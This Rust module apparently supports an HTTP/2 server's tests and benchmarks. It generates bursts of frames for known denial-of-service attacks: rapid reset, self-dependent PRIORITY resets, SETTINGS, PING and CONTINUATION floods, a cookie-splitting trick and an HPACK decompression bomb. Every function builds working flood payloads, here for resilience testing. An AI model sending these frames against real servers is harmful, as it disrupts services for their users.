//! What floods are made of, in bursts of frames; `round` counts the bursts of a connection. `benches/attacks` sends them too.

use crate::support::frames::{
    CONTINUATION, DATA_FRAME, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, field, frame, headers, integer, pseudo,
    reset, settings, window_update,
};

/// Frames of one burst.
const BURST: u32 = 50;

fn many(round: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BURST).flat_map(|place| one(round * BURST + place)).collect()
}

/// Client streams in their order.
pub fn stream(number: u32) -> u32 {
    2 * number + 1
}

pub fn rapid_reset(round: u32) -> Vec<u8> {
    many(round, |n| [headers(stream(n), END_STREAM, pseudo("GET", "/")), reset(stream(n), 8)].concat())
}

/// A stream that depends on itself is an error of the stream: the server has to reset it (CVE-2025-8671).
pub fn made_you_reset(round: u32) -> Vec<u8> {
    many(round, |n| {
        let dependency = [&stream(n).to_be_bytes()[..], &[16]].concat();
        let head = headers(stream(n), END_STREAM, pseudo("GET", "/"));
        [head, frame(PRIORITY, 0, stream(n), dependency)].concat()
    })
}

pub fn over_max_streams(round: u32) -> Vec<u8> {
    many(round, |n| headers(stream(n), 0, pseudo("POST", "/")))
}

pub fn settings_flood(round: u32) -> Vec<u8> {
    many(round, |n| settings(&[(4, 1000 + n)]))
}

pub fn ping_flood(round: u32) -> Vec<u8> {
    many(round, |n| frame(PING, 0, 0, u64::from(n).to_be_bytes()))
}

pub fn priority_flood(round: u32) -> Vec<u8> {
    many(round, |n| frame(PRIORITY, 0, 1, [&(3 + n).to_be_bytes()[..], &[n as u8]].concat()))
}

/// Behind the head of a request whose body never comes.
fn behind_a_head(round: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let head = if round == 0 { headers(1, 0, pseudo("POST", "/")) } else { Vec::new() };
    [head, many(round, one)].concat()
}

pub fn empty_data(round: u32) -> Vec<u8> {
    behind_a_head(round, |_| frame(DATA_FRAME, 0, 1, ""))
}

pub fn tiny_data(round: u32) -> Vec<u8> {
    behind_a_head(round, |_| frame(DATA_FRAME, 0, 1, "x"))
}

pub fn window_updates(round: u32) -> Vec<u8> {
    many(round, |_| window_update(0, 1))
}

pub fn continuations(round: u32) -> Vec<u8> {
    let head = if round == 0 { frame(HEADERS, END_STREAM, 1, pseudo("GET", "/")) } else { Vec::new() };
    [head, many(round, |n| frame(CONTINUATION, 0, 1, field(format!("x-{n}"), "y")))].concat()
}

pub fn empty_continuations(round: u32) -> Vec<u8> {
    let head = if round == 0 { frame(HEADERS, END_STREAM, 1, pseudo("GET", "/")) } else { Vec::new() };
    [head, many(round, |_| frame(CONTINUATION, 0, 1, ""))].concat()
}

pub fn unknown_frames(round: u32) -> Vec<u8> {
    many(round, |n| frame(0xbe, 0, n, "?"))
}

/// Crumbs of a cookie, one octet each on the wire and a field each behind it: what counts octets alone counts nearly nothing
/// (CVE-2026-49975).
pub fn crumbs(round: u32) -> Vec<u8> {
    let fill = [&[0x60, 0][..], &vec![0x80 | 62; 12_000]].concat();
    frame(HEADERS, END_STREAM | END_HEADERS, stream(round), [pseudo("GET", "/"), fill].concat())
}

/// One field of 4000 octets in the table, then references of one octet each: 16 KiB become 64 MiB.
pub fn bomb(round: u32) -> Vec<u8> {
    let fill = [&[0x40][..], &integer(0, 7, 1), b"x", &integer(0, 7, 4000), &[b'y'; 4000]].concat();
    let block = [pseudo("GET", "/"), fill, vec![0x80 | 62; 12_000]].concat();
    assert!(block.len() < 16_384);
    frame(HEADERS, END_STREAM | END_HEADERS, stream(round), block)
}
